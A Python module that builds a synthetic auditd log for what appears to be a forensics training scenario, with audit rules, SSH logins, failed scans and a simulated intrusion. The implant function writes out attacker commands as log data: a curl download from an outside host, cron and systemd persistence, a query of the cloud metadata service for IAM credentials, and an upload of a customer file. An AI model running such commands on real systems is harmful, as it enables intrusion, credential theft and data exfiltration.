"""What auditd writes: the records of system calls, logins and services."""
import random
import re

from story_login import SCANNED, SHELL, SUDO, at

UNSET = 4294967295
DAEMON = "system_u:system_r:unconfined_service_t:s0"
SSHD = "system_u:system_r:sshd_t:s0-s0:c0.c1023"
HUMAN = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
LOADER = "/lib64/ld-linux-x86-64.so.2"
RULES = """\
-D
-b 8192
-a always,exit -F arch=b64 -S connect -F uid=1001 -k net
-a always,exit -F arch=b64 -S execve -F path=/usr/bin/bash -F auid=-1 -k exec
-w /usr/bin/curl -p x -k exec
-a always,exit -F dir=/usr/local/bin -F perm=x -k exec
-a always,exit -F arch=b64 -S unlink,unlinkat -F dir=/usr/local/bin -k delete
-a always,exit -F arch=b64 -S symlink,symlinkat,openat -F dir=/etc/systemd/\
system -F perm=wa -k units
-w /etc/cron.d -p wa -k cron
"""
SETTINGS = """\
log_file = /var/log/audit/audit.log
log_format = RAW
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file_action = ROTATE
num_logs = 5
"""


def hexed(data):
    return data.encode().hex().upper()


class Audit:
    """Events in any order; lines() gives them in the order of time, with the
    numbers that the kernel counts on."""

    def __init__(self, inodes, label):
        self.events, self.inodes, self.label = [], inodes, label

    def add(self, ms, *rows):
        self.events.append((ms, len(self.events), rows))

    def path(self, i, name, real, kind="NORMAL", mode=0o100755):
        return ("PATH", 'item=%d name="%s" inode=%d dev=103:01 mode=0%o ouid=0 '
                "ogid=0 rdev=00:00 obj=%s nametype=%s cap_fp=0 cap_fi=0 "
                "cap_fe=0 cap_fver=0 cap_frootid=0" % (
                    i, name, self.inodes.get(real, 0), mode, self.label(real),
                    kind))

    def call(self, t, ms, number, args, code, who, paths, key, argv, cwd,
             title=None):
        """A system call of root's, without a login; WHO is ppid, pid, exe."""
        ppid, pid, exe = who
        rows = [("SYSCALL", "arch=c000003e syscall=%d success=yes exit=%d a0=%x "
                 "a1=%x a2=%x a3=%x items=%d ppid=%d pid=%d auid=%d uid=0 "
                 "gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
                 'tty=(none) ses=%d comm="%s" exe="%s" subj=%s key="%s"' % (
                     (number, code) + args + (
                         len(paths), ppid, pid, UNSET, UNSET,
                         exe.split("/")[-1], exe, DAEMON, key)))]
        if argv:
            rows.append(("EXECVE", "argc=%d " % len(argv) + " ".join(
                "a%d=%s" % (i, hexed(a) if re.search('[ "]', a) else
                            '"%s"' % a) for i, a in enumerate(argv))))
        rows.append(("CWD", 'cwd="%s"' % cwd))
        rows += paths
        rows.append(("PROCTITLE", "proctitle=" +
                     hexed("\0".join(argv or title))))
        self.add(t * 1000 + ms, *rows)

    def execve(self, t, ms, who, argv, name, cwd, script=None):
        files = [(script, script)] if script else []
        files += [(name, who[2]), (LOADER, "/usr" + LOADER)]
        if who[2] == "/usr/local/bin/.sysupd":
            # linked statically, and without a name when all was told
            files = [(name, "(unlinked)")]
        self.call(t, ms, 59, (0x55d0c1b2a2c0, 0x55d0c1b2a3e0, 0x55d0c1b2b010,
                              8), 0, who,
                  [self.path(i, n, real, mode=0o100700 if n == script else
                             0o100755) for i, (n, real) in enumerate(files)],
                  "exec", argv, cwd)

    def user(self, kind, t, ms, pid, uid, auid, subject, text):
        self.add(t * 1000 + ms, (kind, "pid=%d uid=%d auid=%d ses=%d subj=%s "
                                 "msg='%s'" % (pid, uid, auid,
                                               UNSET if auid == UNSET else 1,
                                               subject, text)))

    def lines(self):
        """Pairs of milliseconds and text, an event each."""
        for i, (ms, _, rows) in enumerate(sorted(self.events)):
            head = "msg=audit(%d.%03d:%d): " % (ms // 1000, ms % 1000, 4101 + i)
            yield ms, "".join("type=%s %s%s\n" % (kind, head, text)
                              for kind, text in rows)


def connections(audit):
    """A rule watches the site's connections: two days of them."""
    rng, t, n = random.Random(7), at(9, 1, 0, 0) * 1000, 4100
    while t < at(11, 4, 21, 0) * 1000:
        t += rng.randrange(20000, 60000)
        n += 1
        audit.add(t, ("SYSCALL",
            'arch=c000003e syscall=42 '
            'success=yes exit=0 a0=%x a1=7ffe%08x a2=10 a3=0 items=0 ppid=1 '
            'pid=%d auid=4294967295 uid=1001 gid=1001 euid=1001 suid=1001 '
            'fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) '
            'ses=4294967295 comm="gunicorn" exe="/usr/bin/python3.9" '
            'subj=%s key="net"' % (
                rng.randrange(5, 40), rng.randrange(2 ** 32), 1300 + n % 4,
                DAEMON)))


def logins(audit):
    t = at(9, 0, 47, 31)
    text = ("op=%s id=1000 exe=\"/usr/sbin/sshd\" hostname=192.0.2.10 "
            "addr=192.0.2.10 terminal=%s res=success")
    audit.user("USER_LOGIN", t, 412, 1204, 0, 1000, SSHD,
               text % ("login", "/dev/pts/0"))
    audit.user("USER_START", t, 413, 1204, 0, 1000, SSHD,
               text % ("login", "/dev/pts/0"))
    for at_, pid, as_, cwd, command, _, _ in SUDO:
        audit.user("USER_CMD", at_, 118, pid, 1000, 1000, HUMAN,
                   "cwd=\"%s\" cmd=%s exe=\"/usr/bin/sudo\" terminal=pts/0 "
                   "res=success" % (cwd, hexed(command) if " " in command else
                                    '"%s"' % command))
    audit.user("USER_END", at(9, 1, 3, 30), 640, 1204, 0, 1000, SSHD,
               text % ("login", "/dev/pts/0"))
    for at_, pid, _, _ in SCANNED:
        audit.user("USER_LOGIN", at_, 871, pid, 0, UNSET, SSHD,
                   "op=login acct=28696E76616C6964207573657229 "
                   "exe=\"/usr/sbin/sshd\" hostname=? addr=192.0.2.99 "
                   "terminal=sshd res=failed")


def implant(audit, script):
    """The command, what it starts, and what that does. Process numbers are
    those of the memory sample; chmod is not watched."""
    t, home = at(11, 3, 20, 14), "/usr/bin"
    bash, curl = "/usr/bin/bash", "/usr/bin/curl"
    binary = "/usr/local/bin/.sysupd"
    shell = ["/bin/bash", script]
    audit.execve(t, 702, (88, 89, bash), shell, "/bin/bash", home, script)
    audit.execve(t + 1, 44, (89, 90, curl),
                 ["curl", "-fsS", "-o", binary, "http://198.51.100.66/u"],
                 curl, home)
    audit.call(t + 2, 31, 257, (0xffffff9c, 0x55d0c1b30540, 0x241, 0x1b6), 3,
               (88, 89, bash),
               [audit.path(0, "/etc/cron.d/", "/etc/cron.d", "PARENT",
                           0o40755),
                audit.path(1, "/etc/cron.d/sysupd", "/etc/cron.d/sysupd",
                           "CREATE", 0o100644)], "cron", None, home, shell)
    audit.execve(t + 3, 9, (89, 92, binary), [binary], binary, home)
    audit.call(t + 3, 145, 87, (0x4051d8, 0, 0, 0), 0, (1, 92, binary),
               [audit.path(0, "/usr/local/bin/", "/usr/local/bin", "PARENT",
                           0o40755),
                audit.path(1, binary, "(unlinked)", "DELETE")],
               "delete", None, "/", [binary])
    units = "/etc/systemd/system/"
    for ms, name in ((210, "sysupd.service"), (214, "sysupd.timer")):
        audit.call(t + 5, ms, 257, (0xffffff9c, 0x405210, 0x241, 0x1a4), 5,
                   (1, 92, binary),
                   [audit.path(0, units, units[:-1], "PARENT", 0o40755),
                    audit.path(1, units + name, units + name, "CREATE",
                               0o100644)], "units", None, "/", [binary])
    # the shell that the memory holds: its curls are its third and last child
    audit.execve(at(11, 3, 24, 52), 20, (93, 96, curl),
                 ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"
                  "security-credentials/app-server-role"], curl, "/")
    audit.execve(at(11, 3, 36, 47), 31, (93, 101, curl),
                 ["curl", "-s", "-T", "/tmp/.c/customers-01.csv",
                  "https://198.51.100.66/u"], curl, "/")
    enable(audit)
    audit.execve(at(11, 3, 37, 5), 377, (92, SHELL, bash), ["bash", "-li"],
                 "/bin/bash", "/")


def enable(audit):
    t, exe = at(11, 3, 33, 18), "/usr/lib/systemd/systemd"
    units = "/etc/systemd/system/"
    wants = units + "timers.target.wants"
    audit.call(t, 871, 266, (0x55f0a1c020e0, 0xffffff9c, 0x55f0a1c02150, 0), 0,
               (0, 1, exe),
               [audit.path(0, wants + "/", wants, "PARENT", 0o40755),
                audit.path(1, wants + "/sysupd.timer",
                           wants + "/sysupd.timer", "CREATE", 0o120777)],
               "units", None, "/", [exe, "--switched-root", "--system"])
    audit.user("SERVICE_START", t, 893, 1, 0, UNSET,
               "system_u:system_r:init_t:s0",
               "unit=sysupd comm=\"systemd\" exe=\"%s\" hostname=? addr=? "
               "terminal=? res=success" % exe)


def events(inodes, label, script):
    audit = Audit(inodes, label)
    audit.user("SERVICE_START", at(9, 0, 10, 5), 120, 1, 0, UNSET,
               "system_u:system_r:init_t:s0",
               "unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
               "hostname=? addr=? terminal=? res=success")
    logins(audit)
    connections(audit)
    implant(audit, script)
    return list(audit.lines())
